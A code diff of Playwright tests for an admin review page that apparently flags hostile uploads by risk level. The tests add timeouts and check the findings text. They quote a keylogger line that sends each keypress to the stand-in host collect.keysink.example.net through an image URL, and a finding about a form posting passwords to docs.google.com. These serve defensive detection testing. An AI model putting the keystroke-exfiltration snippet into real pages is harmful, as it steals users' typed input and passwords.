@@ -31,7 +31,8 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
   // Signed in once the login page has gone (the token is kept before it navigates).
   await expect(page).not.toHaveURL(/\/login/);
   await page.goto(`/admin/reviews?search=${encodeURIComponent(name)}`);
-  await expect(page.getByRole('link', { name, exact: true })).toBeVisible();
+  // The first page of a run can take a while on a busy machine.
+  await expect(page.getByRole('link', { name, exact: true })).toBeVisible({ timeout: 30_000 });
   const badge = page
     .getByRole('row')
     .filter({ has: page.getByRole('link', { name, exact: true }) })
@@ -47,11 +48,11 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
 
   await page.getByRole('link', { name, exact: true }).click();
   await expect(page).toHaveURL(new RegExp(`/admin/reviews/${site.id}`));
-  await expect(
-    page.getByText(
-      '脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入',
-    ),
-  ).toBeVisible();
+  const finding =
+    '脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入';
+  await expect(page.locator('.check-findings').getByText(finding)).toBeVisible();
+  // The level's reason names the same finding, above the table.
+  await expect(page.locator('.check-reason')).toContainText(`判为高风险，几乎可以肯定有恶意：${finding}`);
   // The excerpt is in the table; the location opens the file with that line marked.
   const line3 =
     'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });';
@@ -113,6 +114,7 @@ test('libraries, fonts, players and analytics are information; a password to Goo
   await signIn(page, ADMIN.username, ADMIN.password);
   await expect(page).not.toHaveURL(/\/login/);
   await page.goto(`/admin/reviews?search=${encodeURIComponent(name)}&sort=risk`);
+  await expect(page.getByRole('link', { name, exact: true })).toBeVisible({ timeout: 30_000 });
   const rowOf = (n: string) =>
     page.getByRole('row').filter({ has: page.getByRole('link', { name: n, exact: true }) });
   await expect(rowOf(name).locator('.content-check-badge')).toHaveAttribute('data-level', /^(low|info)$/);
@@ -124,12 +126,14 @@ test('libraries, fonts, players and analytics are information; a password to Goo
   // Sorted by risk: the high one first.
   await expect(page.locator('.admin-project-cell__name').first()).toHaveText(`${name}认证`);
 
-  await rowOf(`${name}认证`).getByRole('link', { name: `${name}认证`, exact: true }).click();
+  await rowOf(`${name}认证`)
+    .getByRole('link', { name: `${name}认证`, exact: true })
+    .click();
   await expect(page.locator('.check-reason')).toContainText(
     '判为高风险，几乎可以肯定有恶意：表单把密码提交到表单服务 docs.google.com',
   );
   // The ordinary site's detail lists its services as information.
   await page.goto(`/admin/reviews/${ordinary.id}`);
-  await expect(page.locator('.check-reason')).toContainText('只有供参考的信息');
+  await expect(page.locator('.check-reason')).toContainText('只有供参考的信息', { timeout: 30_000 });
   await expect(page.getByText(/页面运行时使用公共 CDN jsDelivr（cdn\.jsdelivr\.net/)).toBeVisible();
 });
